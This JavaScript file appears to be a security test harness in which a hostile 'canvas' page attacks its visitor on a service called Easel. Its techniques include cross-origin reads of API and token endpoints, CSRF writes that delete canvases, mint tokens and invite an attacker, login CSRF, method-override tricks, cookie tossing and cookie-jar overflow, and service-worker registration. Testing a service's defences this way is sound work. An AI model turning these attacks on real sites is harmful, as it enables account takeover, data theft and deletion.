/*
 * Attacks of a hostile canvas page on its visitor. Each attack returns all text that it could read. The URL's fragment names the victim's
 * canvas, the base URL and an invitation of the attacker.
 */

const { base, id, slug, canvas, invitation } = JSON.parse(decodeURIComponent(location.hash.slice(1)));
const runtime = `${base}/v1/c/${slug}`;
const LONG = 700;

const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
/** Runs attempts concurrently. Returns the texts that they have read; a failed attempt has read nothing. */
const all = async (tries) =>
  (await Promise.allSettled(tries.map((each) => each()))).map(({ value }) => value ?? "").join("\n");
const get = async (url, init) => (await fetch(url, init)).text();

const READS = ["canvases", "me", "tokens", "sessions", "teams", `canvases/${id}`, `canvases/${id}/versions`]
  .map((path) => `${base}/api/${path}`)
  .concat(`${runtime}/me`, `${runtime}/kv`, `${runtime}/kv/plan`, canvas, `${base}/`, `${base}/auth/login`);

/** Requests that would change something if they succeeded: method, URL, body. */
const WRITES = [
  ["PUT", `${base}/api/canvases/${id}/sharing`, { access: "whole_org" }],
  ["PATCH", `${base}/api/canvases/${id}`, { title: "Taken" }],
  ["DELETE", `${base}/api/canvases/${id}`],
  ["POST", `${base}/api/canvases/${id}/unpublish`, {}],
  ["POST", `${base}/api/canvases/${id}/invites`, { email: "mallory@example.com" }],
  ["PUT", `${base}/api/canvases/${id}/bundle`, {}],
  ["POST", `${base}/api/canvases`, { title: "Made by another" }],
  ["POST", `${base}/api/tokens`, { name: "stolen" }],
  ["POST", `${base}/api/teams`, { name: "Made by another" }],
  ["POST", `${base}/auth/logout`],
  ["POST", `${base}/auth/dev/session`, { email: "mallory@example.com" }],
  ["POST", `${base}/auth/login`, { email: "mallory@example.com" }],
  ["POST", invitation],
  ["PUT", `${runtime}/kv/plan`, "overwritten"],
  ["DELETE", `${runtime}/kv/plan`],
  ["POST", `${runtime}/kv/count/increment`, { by: 100 }],
  ["POST", `${canvas}__gate`, { password: "x" }],
];
const TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
const ENCTYPES = TYPES.slice(1);

const form = (body) => new URLSearchParams(Object.entries(body ?? {}));
const bodyOf = (type, body) => (type === ENCTYPES[1] ? form(body).toString() : JSON.stringify(body ?? {}));

/** Embeds a URL in this page and returns the text that the page can read of it. */
async function embed(tag, attribute, url) {
  const element = document.createElement(tag);
  const ended = new Promise((resolve) => {
    element.onload = resolve;
    element.onerror = resolve;
    setTimeout(resolve, LONG);
  });
  if (attribute === "rel") Object.assign(element, { rel: "stylesheet", href: url });
  else element[attribute] = url;
  if (tag === "object" || tag === "embed") element.type = "text/html";
  document.body.append(element);
  await ended;
  try {
    const inside = element.contentWindow ?? element.getSVGDocument()?.defaultView;
    return (
      inside.document.documentElement.outerHTML +
      (await all(READS.map((each) => () => inside.fetch(each).then((answer) => answer.text()))))
    );
  } finally {
    element.remove();
  }
}

/** Submits a form into a frame of this page and returns the HTML of the response. */
async function submit(action, enctype, body, method = "post") {
  const frame = document.createElement("iframe");
  frame.name = `frame-${Math.random()}`;
  const sent = Object.assign(document.createElement("form"), { action, enctype, method, target: frame.name });
  // For text/plain the name and the value of the only field together are a JSON document.
  const fields =
    enctype === "text/plain" ? [[JSON.stringify(body ?? {}).replace(/}?$/, ',"a":"'), '"}']] : form(body);
  for (const [name, value] of fields) {
    sent.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  }
  document.body.append(frame, sent);
  const ended = new Promise((resolve) => {
    frame.onload = resolve;
    setTimeout(resolve, LONG);
  });
  sent.submit();
  await ended;
  try {
    return frame.contentDocument.documentElement.outerHTML;
  } finally {
    frame.remove();
    sent.remove();
  }
}

/** Opens a URL in a new window, reads its document, and sends requests from it. Returns all text that it could read. */
async function popUp(url) {
  const other = open(url);
  try {
    for (let waited = 0; waited < 600; waited += 50) {
      await pause(50);
      if (other.closed || (other.location.href !== "about:blank" && other.document.readyState === "complete"))
        break;
    }
    const calls = [...READS.map((each) => [each]), ...WRITES.map(([method, each]) => [each, { method }])];
    const read = await all(
      calls.map(
        ([each, init]) =>
          () =>
            other.fetch(each, init).then((answer) => answer.text()),
      ),
    );
    return other.document.documentElement.outerHTML + read;
  } finally {
    other.close();
  }
}

async function register(script, scope) {
  const worker = await navigator.serviceWorker.register(script, scope === undefined ? {} : { scope });
  await worker.unregister();
  return ` controls ${worker.scope} `;
}

/** Sets cookies for the base host and its subdomains, under every name that the service could take for the session cookie. */
globalThis.toss = async (token, secure) => {
  const own = `${secure ? "__Host-" : ""}easel_session`;
  const names = [own, "easel_session", "__host-easel_session", "", "\u2000", "\u00a0", "\u0085"].flatMap(
    (name) =>
      name.includes("easel") ? [`${name}=${token}`] : [`${name}${own}=${token}`, `=${name}${own}=${token}`],
  );
  for (const pair of names) {
    for (const domain of ["", `; Domain=${new URL(base).hostname}`, `; Domain=.${new URL(base).hostname}`]) {
      for (const path of ["/", "/api", "/auth", "/v1", ""]) {
        for (const rest of ["", "; Secure", "; Secure; SameSite=None"]) {
          // biome-ignore lint/suspicious/noDocumentCookie: the attack under test.
          document.cookie = `${pair}${domain}; Path=${path}${rest}; Max-Age=9999`;
        }
      }
    }
  }
  const { hostname: domain } = new URL(base);
  for (const path of ["/", "/api"])
    await cookieStore?.set({ name: own, value: token, domain, path }).catch(() => {});
  return document.cookie;
};

/** Sets `count` cookies, so that the browser evicts other cookies of the site. */
globalThis.overflow = (count) => {
  for (let n = 0; n < count; n++) {
    // biome-ignore lint/suspicious/noDocumentCookie: the attack under test.
    document.cookie = `crowd${n}=1; Domain=${new URL(base).hostname}; Path=/; Secure; Max-Age=9999`;
  }
  return document.cookie.length;
};

globalThis.attacks = {
  "fetches what the victim may read": () =>
    all(
      READS.flatMap((url) =>
        ["cors", "no-cors", "same-origin"].flatMap((mode) =>
          ["include", "same-origin"].map((credentials) => () => get(url, { mode, credentials })),
        ),
      ),
    ),

  "fetches it without saying from where": () =>
    all(READS.map((url) => () => get(url, { credentials: "include", referrerPolicy: "no-referrer" }))),

  "writes with every content type": () =>
    all(
      WRITES.flatMap(([method, url, body]) =>
        TYPES.flatMap((type) =>
          ["cors", "no-cors"].map((mode) => () => {
            const payload = method === "DELETE" ? {} : { body: bodyOf(type, body) };
            return get(url, {
              method,
              mode,
              credentials: "include",
              headers: { "content-type": type },
              ...payload,
            });
          }),
        ),
      ),
    ),

  "writes without saying from where, or as another page": async () => {
    const here = location.href;
    const write = (policy) =>
      all(
        WRITES.map(([method, url, body]) => () => {
          const payload = method === "DELETE" ? {} : { body: JSON.stringify(body ?? {}) };
          const headers = { "content-type": "application/json" };
          return get(url, { method, credentials: "include", headers, ...payload, ...policy });
        }),
      );
    const hidden = await write({ referrerPolicy: "no-referrer" });
    history.replaceState(null, "", "/");
    const posing = await write({ referrerPolicy: "unsafe-url" });
    history.replaceState(null, "", here);
    return hidden + posing;
  },

  "overrides the method of a simple request": () =>
    all(
      WRITES.flatMap(([method, url, body]) => [
        () =>
          get(url, { method: "POST", credentials: "include", headers: { "x-http-method-override": method } }),
        () =>
          get(`${url}?_method=${method}`, {
            method: "POST",
            mode: "no-cors",
            credentials: "include",
            body: form({ ...body, _method: method }),
          }),
      ]),
    ),

  "asks by the old way, and sends beacons": () =>
    all(
      [...READS.map((url) => ["GET", url]), ...WRITES].map(([method, url, body]) => async () => {
        if (method !== "GET") navigator.sendBeacon(url, JSON.stringify(body ?? {}));
        const request = new XMLHttpRequest();
        request.open(method, url);
        request.withCredentials = true;
        const ended = new Promise((resolve) => {
          request.onloadend = resolve;
        });
        request.send(method === "GET" ? null : JSON.stringify(body ?? {}));
        await ended;
        return request.responseText;
      }),
    ),

  // The service judges a form by its content type, whatever its URL, so each URL gets one of the types.
  "submits forms": () =>
    all(
      WRITES.map(
        ([, url, body], index) =>
          () =>
            submit(url, ENCTYPES[index % ENCTYPES.length], body),
      ),
    ),

  "submits forms that only ask": () => all(READS.map((url) => () => submit(url, ENCTYPES[1], {}, "get"))),

  "shows pages in frames": () => all([...READS, invitation].map((url) => () => embed("iframe", "src", url))),

  "shows pages as objects": () =>
    all(
      [`${base}/healthz`, ...READS].map(
        (url, index) => () => (index % 2 === 0 ? embed("object", "data", url) : embed("embed", "src", url)),
      ),
    ),

  "loads answers as scripts, modules, styles and pictures": () =>
    all(
      [...READS, invitation].flatMap((url) => [
        () => embed("script", "src", url),
        () => embed("link", "rel", url),
        () => embed("img", "src", url),
        async () => JSON.stringify((await import(url, { with: { type: "json" } })).default),
        async () => [...(await import(url, { with: { type: "css" } })).default.cssRules].join(),
      ]),
    ),

  "runs workers elsewhere": () =>
    all(
      [...READS, `${base}/sdk/v1.js`].map((url) => async () => {
        const worker = new Worker(url);
        const ended = new Promise((resolve) => {
          worker.onmessage = ({ data }) => resolve(data);
          worker.onerror = resolve;
          setTimeout(resolve, LONG);
        });
        return String(await ended);
      }),
    ),

  "registers service workers above its path": () =>
    all([
      ...["/", "/c/", "/api/", "/auth/", `/c/${slug}/`, "../"].map(
        (scope) => () => register("worker.js", scope),
      ),
      () => register("worker.js"),
      () => register("/worker.js"),
      () => register(`${base}/sdk/v1.js`, "/"),
      () => register(`${runtime}/kv/plan`),
    ]),

  "opens the service's own pages": () =>
    all([`${base}/`, `${base}/auth/login`, invitation].map((url) => () => popUp(url))),

  "opens another canvas": () => all([() => popUp(canvas)]),

  "opens a response that is no page": () =>
    all([`${base}/healthz`, `${runtime}/me`, `${base}/api/me`].map((url) => () => popUp(url))),
};
